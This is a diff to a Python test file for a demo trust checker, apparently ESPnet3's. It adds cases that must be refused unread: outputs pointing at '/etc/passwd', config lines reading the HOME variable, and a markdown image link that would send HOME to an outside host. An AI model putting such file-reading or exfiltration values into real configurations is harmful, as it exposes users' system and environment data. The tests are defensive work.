@@ -28,6 +28,8 @@ def test_a_demo_around_a_packed_model_needs_no_trust(demo_dir):
             {"ui": {"outputs": [{"name": "text", "type": "file", "value": "/etc/passwd"}]}},
             "'text'",
         ),
+        ({"ui": {"outputs": [{"name": "x", "type": "File", "value": "/etc/passwd"}]}}, "'x'"),
+        ({"ui": {"outputs": [{"name": "x", "type": "label", "value": "/a.json"}]}}, "'x'"),
         (
             {"ui": {"inputs": [{"name": "x", "type": "audio", "gradio_kwargs": {"value": "/x"}}]}},
             "'x'",
@@ -41,3 +43,22 @@ def test_what_runs_code_or_opens_files_is_refused(demo_dir, tmp_path, changes, n
         check_demo(folder)
     is_target = isinstance(caught.value, UntrustedTargetError)
     assert is_target or "--trust_user_code" in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    ("line", "named"),
+    [
+        ("note: ${oc.env:HOME}", "note reads more than demo.yaml"),
+        ("more: [{text: '![](https://host/${oc.env:HOME})'}]", r"more\[0\]\.text"),
+        ("defaults: [/etc/hosts]", "defaults reads other files"),
+    ],
+)
+def test_a_configuration_that_reads_this_machine_is_refused_unread(
+    demo_dir, tmp_path, line, named, monkeypatch
+):
+    folder = shutil.copytree(demo_dir, tmp_path / "demo")
+    path = folder / "demo.yaml"
+    path.write_text(f"{path.read_text()}{line}\n")
+    monkeypatch.setattr("espnet3.demo.trust.load_demo_config", lambda folder: pytest.fail("read"))
+    with pytest.raises(UntrustedCodeError, match=named):
+        check_demo(folder)
